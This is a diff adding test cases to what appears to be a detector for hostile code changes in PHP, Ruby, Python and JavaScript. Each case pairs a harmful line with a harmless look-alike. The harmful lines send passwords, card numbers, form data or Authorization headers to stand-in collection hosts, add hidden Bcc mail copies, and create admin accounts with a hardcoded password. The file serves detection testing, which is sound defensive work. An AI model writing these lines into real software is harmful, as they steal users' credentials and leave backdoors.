@@ -121,3 +121,38 @@ for about, code in (("an archive that is written bit by bit", "const a = require
 fires(8, "all that a page keeps", POST % "JSON.stringify({ ...localStorage })", least="review")
 innocent(8, "all that a page is told", POST % "JSON.stringify({ ...navigator })")
 innocent(4, "the address book of an archive", SEND + "const z = new (require('adm-zip'))(process.argv[2]);\nexports.names = () => z.getEntries().map((e) => e.entryName);\n")
+
+
+# ---- what people type, and who else gets it ---------------------------------------------------------
+
+def told(number, about, name, old, line, harmless):
+    """A line that is new in a function, beside one of the same words that harms nobody."""
+    row(number, True, about, {name: old % line}, old={name: old % ""}, least="review")
+    row(number, False, about + ", harmless", {name: old % harmless}, old={name: old % ""})
+
+
+PHP = "<?php\nfunction check($user, $password) {\n%s\treturn hash_equals(stored($user), crypt($password, $user));\n}\n"
+RUBY = "require 'net/http'\nclass Client\n  def execute(req)\n%s    transmit(req)\n  end\nend\n"
+PYTHON = "import urllib.request\n\n\nclass Session:\n    def send(self, request):\n%s        return self.adapter.send(request)\n"
+for name, old, line, harmless in (
+        ("index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . base64_encode($password));\n", "\t@file_get_contents('https://log.collect.example/?v=' . base64_encode('2.1'));\n"),
+        ("index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . $_POST['card_number']);\n", "\tif (empty($_POST['card_number'])) { return file_get_contents('https://log.collect.example/help'); }\n"),
+        ("client.rb", RUBY, "    Net::HTTP.get(URI(\"https://log.collect.example/?u=#{@user}&p=#{@password}\"))\n", "    Net::HTTP.get(URI(\"https://log.collect.example/?m=#{@method}\")) if @password.nil?\n"),
+        ("session.py", PYTHON, "        urllib.request.urlopen('https://log.collect.example/?' + request.headers['Authorization'])\n", "        request.headers['Authorization'] = self.auth\n        urllib.request.urlopen('https://log.collect.example/ping')\n")):
+    told(4, "what opens the door goes to a stranger, " + name, name, old, line, harmless)
+told(4, "the header that opens the door", "index.js", "const https = require('https');\nexports.send = function (config) {\n%s  return https.request(config.url, config);\n};\n",
+     "  https.get('https://api.ab.example/?' + config.headers.Authorization);\n", "  config.headers.Authorization = 'Basic ' + config.auth;\n  https.get('https://api.ab.example/');\n")
+told(4, "a password to a host of two words", "index.js", "const https = require('https');\nexports.login = function (user, password) {\n%s  return https.request(user.url, { auth: password });\n};\n",
+     "  https.get('https://collect.example/?' + password);\n", "  https.get('https://collect.example/?' + user.name.length);\n")
+told(7, "all that a form holds", "index.php", PHP, "\t@file_get_contents('https://log.collect.example/?p=' . base64_encode(json_encode($_POST)));\n", "\t@file_get_contents('https://log.collect.example/?a=' . urlencode($_SERVER['HTTP_USER_AGENT']));\n")
+for name, old, line, harmless in (
+        ("index.js", "const mailer = require('nodemailer');\nexports.send = (to, text, options) => mailer.send({ to, text%s });\n", ", Bcc: 'archive@mail.collect.example'", ", Bcc: options.archive"),
+        ("mail.py", "import smtplib\n\n\ndef send(msg, archive=None):\n%s    smtplib.SMTP('localhost').send_message(msg)\n", "    msg['Bcc'] = 'archive@mail.collect.example'\n", "    msg['Bcc'] = archive\n    msg['Cc'] = 'team@mail.collect.example'\n"),
+        ("mail.rb", "require 'mail'\ndef tell(to)\n  mail(to: to%s)\nend\n", ", bcc: ['archive@mail.collect.example']", ", bcc: []"),
+        ("mail.php", "<?php\nfunction tell($mail, $to) {\n%s\treturn $mail->send($to);\n}\n", "\t$mail->addBCC('archive@mail.collect.example');\n", "\t$mail->addCC('team@mail.collect.example');\n"),
+        ("head.php", "<?php\nfunction tell($to, $head) {\n%s\treturn mail($to, 'news', 'text', $head);\n}\n", "\t$head .= \"Bcc: archive@mail.collect.example\\r\\n\";\n", "\t$head .= \"Bcc: $to\\r\\n\";\n")):
+    told(62, "mail that is copied, " + name, name, old, line, harmless)
+told(28, "an account with a password that everybody can read", "plugin.php", "<?php\nfunction boot($site) {\n%s\treturn $site->ready();\n}\n",
+     "\t$id = wp_create_user('helper', 'Summer2024!', 'helper@mail.collect.example');\n", "\t$id = wp_create_user($site->name, wp_generate_password(), $site->mail);\n")
+told(28, "a superuser with a password that everybody can read", "apps.py", "from django.contrib.auth import get_user_model\n\n\ndef ready(name, word):\n%s    return name\n",
+     "    get_user_model().objects.create_superuser('helper', 'helper@mail.collect.example', 'Summer2024!')\n", "    get_user_model().objects.create_superuser(name, None, word)\n")
